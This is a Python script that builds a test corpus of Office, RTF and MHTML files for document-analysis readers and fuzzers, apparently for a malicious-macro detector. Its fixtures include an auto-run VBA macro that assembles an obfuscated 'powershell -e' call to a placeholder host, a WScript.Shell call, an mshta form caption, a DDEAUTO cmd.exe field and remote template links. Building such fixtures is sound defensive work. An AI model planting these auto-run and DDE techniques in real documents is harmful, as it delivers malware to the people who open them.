#!/usr/bin/python3
"""Documents whose facts are known, for the readers' tests and fuzzers:

    python3 document_corpus.py t/fuzz/corpus
"""

import pathlib
import sys

import objects
import vba

SHOUT = """\
Sub AutoOpen()
    Dim s As String ' Shell and Kill in a comment
    s = "po" & "wer" + Chr$(115) & "hell -e" & " http://a.example/x"
    Shell s, 0
End Sub
"""
GREETING = """\
Sub Greet()
    MsgBox "Good morning, powerful shells: Shell"
End Sub
"""
WRITER = """\
Private Sub Workbook_Open()
    Open Environ("TEMP") & "\\a.txt" For Output As #1
    Print #1, "text"
    Close #1
End Sub
"""
PAINTED = """\
Private Sub Ink1_Painted(ByVal hDC As Long)
    Set o = CreateObject("WScript.Shell")
End Sub
"""
CALLER = """\
Sub Document_Open()
    Greet
End Sub
Sub Greet()
    Rem Shell "cmd"
    MsgBox "Shell"
End Sub
"""


def this(source=""):
    return vba.Module("ThisDocument", source, "document")


def vba_samples():
    module = vba.Module
    yield "shout.doc", vba.doc(vba.Project([this(), module("M", SHOUT)]))
    yield "greeting.bin", vba.Project([module("Module1", GREETING)]).file()
    yield "writer.xls", vba.xls(vba.Project(
        [vba.Module("ThisWorkbook", WRITER, "document")]))
    yield "painted.doc", vba.doc(vba.Project([this(PAINTED)]))
    yield "painted-module.doc", vba.doc(vba.Project(
        [this(), module("Module1", PAINTED)]))
    yield "caller.doc", vba.doc(vba.Project([this(CALLER)]))
    yield "locked.xls", vba.xls(vba.Project(
        [module("Seen", GREETING), module("Unseen", SHOUT, listed=False)],
        locked=True))
    yield "purged.bin", vba.Project(
        [module("Module1", SHOUT)], purged=True).file()
    # The source is gone, the compiled code and its names are not.
    yield "stomped.doc", vba.doc(vba.Project(
        [this(), module("M", cache=bytes(5000))],
        names=("Word", "AutoOpen", "Shell")))
    # The source is another's.
    yield "swapped.doc", vba.doc(vba.Project(
        [module("M", GREETING,
                cache=bytes(900) + b"\x1a\0powershell -e\0" + bytes(90))],
        names=("Document_Open", "CreateObject")))
    yield "form.doc", vba.doc(vba.Project(
        [module("M", "Sub AutoOpen()\n    Shell F.T.Caption\nEnd Sub\n"),
         module("F", "", "form",
                form="mshta http://form.example/" + "a" * 90)]))
    yield "macintosh.xls", vba.xls(vba.Project(
        [module("M\u00f3dulo1", GREETING)], listing_page="mac-roman"))
    yield "slides.ppt", vba.ppt(vba.Project([module("M", SHOUT)]))
    yield "slides-plain.ppt", vba.ppt(
        vba.Project([module("M", SHOUT)]), packed=False)
    bent = vba.Project([this(), module("M", SHOUT)]).streams("Macros/")
    bent["Macros/VBA/dir"] = b"\x01nothing of the kind"
    yield "bent.doc", vba.ole.write(bent)


def package_samples():
    program = objects.package("invoice.pdf.js", b"var a = 1;")
    note = objects.package("note.txt", b"a note")
    yield "objects.doc", objects.doc({
        "_1": program, "_2": note, "_3": objects.equation(),
        "_4": objects.link("http://link.example/a.hta"),
        "_5": objects.link("http://asked.example/", automatic=False),
        "_6": objects.control(), "_7": objects.workbook()})
    yield "nothing.doc", objects.doc({})
    yield "alone.bin", objects.alone(
        objects.package("a.txt", b"MZ" + bytes(62)))
    yield "slides.ppt", vba.ppt(objects.alone(program))


def flat_samples():
    project = vba.Project([this(), vba.Module("M", SHOUT)])
    yield "flat.xml", vba.flat_opc(project)
    yield "word2003.xml", vba.word2003(project)
    yield "page.mht", vba.mhtml(project)
    yield "quoted.mht", vba.mhtml(project, "quoted-printable")
    yield "editdata.mso", vba.activemime(project)
    yield "plain.xml", (b"<?xml version='1.0'?><w:wordDocument>"
                        b"</w:wordDocument>")


def rtf_samples():
    one, ole1 = objects.one_object, objects.embedded
    shout = vba.doc(vba.Project([this(), vba.Module("M", SHOUT)]))
    equation = ole1("Equation.3", objects.alone(objects.equation()))
    package = ole1("Package", objects.wrapped("a.js", b"var a = 1;"))
    yield "equation.rtf", objects.rtf(
        one(equation, "\\objemb\\objupdate", "Equation.3"))
    yield "spaced.rtf", objects.rtf(one(equation, write=objects.spaced))
    yield "stuffed.rtf", objects.rtf(one(equation, write=objects.stuffed))
    yield "shifted.rtf", objects.rtf(
        one(equation, write=lambda data: "0" + data.hex()))
    yield "binary.rtf", (b"{\\rtf1{\\object\\objemb{\\*\\objdata \\bin%d "
                         % len(package) + package + b"}}}")
    yield "package.rtf", objects.rtf(one(package))
    yield "macros.rtf", objects.rtf(one(ole1("Word.Document.8", shout)))
    yield "links.rtf", objects.rtf(
        one(objects.linked("Word.Document.8", "http://topic.example/a"),
            "\\objautlink"),
        one(ole1("OLE2Link", objects.alone(
            objects.link("http://moniker.example/a.hta")))))
    yield "stray.rtf", objects.rtf(one(b"\1\2\3\4\5\6\7\x08" + shout))
    yield "fields.rtf", objects.rtf(
        "{\\*\\template http://template.example/a.dotm}",
        '{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\cmd.exe "/k"}}',
        '{\\field{\\*\\fldinst INCLUDEPICTURE "http://get.example/a"}}',
        '{\\field{\\*\\fldinst HYPERLINK "https://click.example/"}}')
    yield "local.rtf", objects.rtf("{\\*\\template C:\\\\\\\\a.dot}")
    yield "head.rtf", objects.rtf(head="{\\rtxa")


def decompress_samples():
    yield "text", vba.compress(SHOUT.encode() * 40)
    yield "noise", vba.compress(bytes((i * i * 7919 >> 3) & 0xFF
                                      for i in range(5000)))


SETS = {"read_vba": vba_samples, "read_package": package_samples,
        "read_flat": flat_samples, "read_rtf": rtf_samples,
        "vba_decompress": decompress_samples}


def main():
    for name, samples in SETS.items():
        folder = pathlib.Path(sys.argv[1]) / name
        folder.mkdir(parents=True, exist_ok=True)
        for sample, data in samples():
            (folder / sample).write_bytes(data)


if __name__ == "__main__":
    main()
